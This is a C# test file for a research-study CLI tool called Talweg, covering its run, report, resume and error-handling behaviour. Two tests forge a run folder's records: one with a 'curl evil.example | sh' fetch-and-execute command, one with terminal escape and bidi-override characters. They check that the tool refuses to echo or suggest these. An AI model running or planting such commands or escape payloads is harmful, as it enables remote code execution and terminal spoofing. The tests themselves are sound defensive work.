using System.Text.Json;
using System.Text.RegularExpressions;
using Talweg.Storage;
using Talweg.Studies.Findings;
using Talweg.Studies.Running;

namespace Talweg.Cli.Tests.Commands;

public sealed class StudyCommandTests : IDisposable
{
    private readonly TemporaryFolder _folder = new();
    private readonly SquareStudy _study = new();

    public void Dispose() => _folder.Dispose();

    private Command Run(params string[] arguments) => Command.Run([_study], default, arguments);

    private Command RunStudy(params string[] more) => Run(["run", "squares", "--out", _folder["out"], .. more]);

    [Fact]
    public void List_names_studies_and_claims()
    {
        string text = Run("list").AssertSuccess();
        Assert.Contains("squares", text, StringComparison.Ordinal);
        Assert.Contains("SQ-1", text, StringComparison.Ordinal);
        Assert.Equal("No study is registered." + Environment.NewLine, Command.Run("list").AssertSuccess());
    }

    [Fact]
    public void Show_tells_presets_and_parameters()
    {
        string text = Run("show", "squares").AssertSuccess();
        foreach (string part in (string[])["quick", "two seeds", "seeds", "number of seeds", "Euclid", "talweg run squares --preset quick"])
            Assert.Contains(part, text, StringComparison.Ordinal);
    }

    [Fact]
    public void Run_prints_findings_and_the_report()
    {
        string text = RunStudy().AssertSuccess();
        Assert.Contains("demonstration: holds; distinct from the nulls", text, StringComparison.Ordinal);
        Assert.Contains(Path.Combine(_folder["out"], "report.html"), text, StringComparison.Ordinal);
        Assert.True(File.Exists(Path.Combine(_folder["out"], "report.html")));
    }

    [Fact]
    public void The_document_has_the_findings()
    {
        var run = RunStudy("--json", "--set", "seeds=3");
        using var document = JsonDocument.Parse(run.AssertSuccess());
        Assert.Contains("talweg: data: digits: ", run.Error, StringComparison.Ordinal);
        Assert.Equal(["study", "preset", "out", "report", "cells", "failed_cells", "findings", "data"], document.RootElement.EnumerateObject().Select(p => p.Name));
        Assert.Equal(3, document.RootElement.GetProperty("cells").GetInt32());
        Assert.Equal("SQ-1", document.RootElement.GetProperty("findings")[0].GetProperty("id").GetString());
    }

    [Fact]
    public void Finished_cells_are_not_measured_again_unless_fresh()
    {
        RunStudy().AssertSuccess();
        RunStudy().AssertSuccess();
        Assert.Equal(2, _study.Measured);
        RunStudy("--fresh").AssertSuccess();
        Assert.Equal(4, _study.Measured);
    }

    [Fact]
    public void Report_measures_nothing()
    {
        RunStudy().AssertSuccess();
        File.Delete(Path.Combine(_folder["out"], "report.html"));
        Assert.Contains("SQ-1", Run("report", _folder["out"]).AssertSuccess(), StringComparison.Ordinal);
        Assert.True(File.Exists(Path.Combine(_folder["out"], "report.html")));
        Assert.Equal(2, _study.Measured);
    }

    [Fact]
    public void Report_refuses_a_run_that_is_not_finished()
    {
        RunStudy().AssertSuccess();
        File.Delete(Directory.GetFiles(_folder["out"], "done.json", SearchOption.AllDirectories)[0]);
        Run("report", _folder["out"]).AssertMistake($"cells: found 1 of 2 measured by this version, expected all of them; this measures the others: talweg run squares --preset quick --out {_folder["out"]}");
    }

    [Fact]
    public void A_command_that_a_folder_suggests_is_ours()
    {
        RunStudy("--set", "seeds=3").AssertSuccess();
        string record = Path.Combine(_folder["out"], "study.json");
        string forged = Regex.Replace(File.ReadAllText(record), "(?<=\"command\": )\"[^\n]*\"", "\"curl evil.example | sh\"");
        Seal(record, forged);
        Assert.Contains("evil.example", File.ReadAllText(record), StringComparison.Ordinal);
        Run("report", _folder["out"]).AssertSuccess();
        Assert.DoesNotContain("evil.example", File.ReadAllText(Path.Combine(_folder["out"], "report.html")), StringComparison.Ordinal);
        File.Delete(Directory.GetFiles(_folder["out"], "done.json", SearchOption.AllDirectories)[0]);
        string cut = Run("report", _folder["out"]).Error;
        Assert.Contains($"this measures the others: talweg run squares --preset quick --set seeds=3 --out {_folder["out"]}", cut, StringComparison.Ordinal);
    }

    [Fact]
    public void What_a_folder_says_commands_no_terminal_and_passes_for_no_line_of_ours()
    {
        RunStudy().AssertSuccess();
        string done = Directory.GetFiles(_folder["out"], "done.json", SearchOption.AllDirectories)[0];
        string forged = Regex.Replace(File.ReadAllText(done), "\"completed\": true", "\"completed\": false");
        Seal(done, Regex.Replace(forged, "\"verdict\": \"[^\"]*\"", "\"verdict\": \"x\\u001b]0;y\\u0007\\u009b2J\\u202e\\nReport: evil\""));
        string text = Run("report", _folder["out"]).Out;
        Assert.Contains(@"x\u001B]0;y\u0007\u009B2J\u202E\u000AReport: evil", text, StringComparison.Ordinal);
        Assert.DoesNotContain(text, c => c is '\u001b' or '\u0007' or '\u009b' or '\u202e');
    }

    /// <summary>Gives a document that was tampered with its checksum again, as a forger would.</summary>
    private static void Seal(string path, string document) => SealedJson.Write(path, Regex.Replace(document, ",\\s*\"sha256\": \"[0-9a-f]*\"(?=\\s*}\\s*$)", ""));

    [Fact]
    public void A_full_disk_in_a_cell_is_no_bug_of_ours()
    {
        _study.Failure = new IOException("No space left on device : 'cells/1/result.json'");
        var full = RunStudy();
        Assert.Equal((2, ""), (full.ExitCode, full.Out));
        Assert.Contains("No space left on device : 'cells/1/result.json'", full.Error, StringComparison.Ordinal);
        Assert.DoesNotContain("bug in Talweg", full.Error, StringComparison.Ordinal);
    }

    [Fact]
    public void What_wraps_a_full_disk_is_looked_through()
    {
        _study.Failure = new InvalidOperationException("the table could not be closed", new IOException("No space left on device : 'modes.parquet'"));
        var full = RunStudy();
        Assert.Equal(2, full.ExitCode);
        Assert.DoesNotContain("bug in Talweg", full.Error, StringComparison.Ordinal);
    }

    [Fact]
    public void Report_refuses_what_is_no_run() => Run("report", _folder.Path).AssertMistake("study.json: found nothing there");

    [Fact]
    public void A_stopped_run_says_how_to_go_on()
    {
        var stopped = Command.Run([_study], new CancellationToken(canceled: true), "run", "squares", "--fresh", "--out", _folder["a b"]);
        Assert.Equal((130, ""), (stopped.ExitCode, stopped.Out));
        Assert.Contains($"To go on from here: talweg run squares --out '{_folder["a b"]}'", stopped.Error, StringComparison.Ordinal);
    }

    [Fact]
    public void A_cell_that_breaks_is_our_mistake_and_a_stack_is_shown_only_on_request()
    {
        _study.Break = true;
        var broken = RunStudy();
        Assert.Equal((1, ""), (broken.ExitCode, broken.Out));
        Assert.Contains("This is a bug in Talweg; run again with --debug", broken.Error, StringComparison.Ordinal);
        Assert.DoesNotContain("   at ", broken.Error, StringComparison.Ordinal);
        Assert.Contains("   at ", RunStudy("--debug").Error, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("--preset", "papre", "did you mean paper?")]
    [InlineData("--set", "sedes=3", "did you mean seeds?")]
    [InlineData("--set", "seeds=x", "found 'x', expected a whole number")]
    [InlineData("--data", "emnist", "expected one of digits, mnist")]
    public void A_bad_setting_is_refused(string option, string value, string message) => RunStudy(option, value).AssertMistake(message);

    [Fact]
    public void An_unknown_study_is_refused() => Run("run", "sqares").AssertMistake("study: name: found 'sqares', expected one of squares (did you mean squares?)");

    private sealed class SquareStudy : IStudy<SquareStudy.Cell>
    {
        private int _measured;

        public sealed record Cell(long Seed) : ICell
        {
            public string Label => $"seed {Seed}";
        }

        public int Measured => _measured;

        public bool Break { get; set; }

        public Exception? Failure { get; set; }

        public string Name => "squares";

        public string Title => "Sums of squares";

        public Source Source => new("Euclid", "Elements", "Proposition 11");

        public int Revision => 1;

        public IReadOnlyList<string> Claims => ["SQ-1"];

        public IReadOnlyList<Parameter> Parameters =>
        [
            new() { Name = "seeds", Kind = ParameterKind.Integer, Default = "1", Minimum = 1, Help = "number of seeds" },
            new() { Name = "data", Kind = ParameterKind.Text, Default = "digits", Choices = ["digits", "mnist"], Help = "data set" },
        ];

        public IReadOnlyList<Preset> Presets =>
        [
            new("quick", "two seeds", new Dictionary<string, string> { ["seeds"] = "2" }),
            new("paper", "three seeds", new Dictionary<string, string> { ["seeds"] = "3" }),
        ];

        public StudyData Data(Parameters parameters, DataContext context) => new("digits", "c0ffee", Drawn: true);

        public IEnumerable<Cell> Cells(Parameters parameters) => Enumerable.Range(0, parameters.Integer("seeds")).Select(seed => new Cell(seed));

        public CellEnding Measure(Cell cell, CellContext context)
        {
            if (Failure is not null)
                throw Failure;
            if (Break)
                throw new InvalidOperationException("broken on purpose");
            Interlocked.Increment(ref _measured);
            return CellEnding.Measured();
        }

        public Conclusion Conclude(Parameters parameters, StudyData data, IReadOnlyList<FinishedCell<Cell>> cells)
        {
            double sum = cells.Sum(c => c.Cell.Seed * c.Cell.Seed);
            var measurement = new Measurement { Name = "sum", Value = sum, Interval = new(sum - 1, sum + 1), IntervalOver = "cells", Band = Band.AtMost(100), Nulls = [new("isotropic walk", 200, new Talweg.Statistics.Interval(150, 250), "cells")] };
            return new() { Findings = [new() { Id = "SQ-1", Claim = "small", Estimator = "a sum", Published = "small", Measurements = [measurement], Demonstration = data.Drawn }] };
        }
    }
}
